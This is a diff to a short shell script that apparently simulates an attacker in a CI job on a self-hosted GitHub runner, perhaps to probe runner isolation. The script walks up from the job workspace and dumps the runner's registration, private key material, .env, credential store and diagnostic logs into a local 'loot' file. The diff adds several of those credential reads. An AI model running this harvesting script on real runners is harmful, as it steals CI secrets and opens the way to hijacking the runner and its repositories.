@@ -1,11 +1,14 @@
 # Reads a self-hosted runner's own credentials: its registration, its
-# OAuth client's private key and its diagnostic logs, in the folder above
+# OAuth client's private key, the .env its start script gives every job,
+# the copies a migration leaves, its credential store and its diagnostic
+# logs, in the folder above
 # the work folder that holds the job's workspace.
 set +e # an attacker keeps going when a step is refused
 root=$(dirname "$(dirname "$(dirname "$GITHUB_WORKSPACE")")")
 {
   echo "runner root: $root"
   cat "$root/.runner" "$root/.credentials" "$root/.credentials_rsaparams"
+  cat "$root/.env" "$root/.credentials_migrated" "$root/.credential_store"
   cat "$root"/_diag/*
   ls -A "$root"
 } > a/loot.txt 2>&1
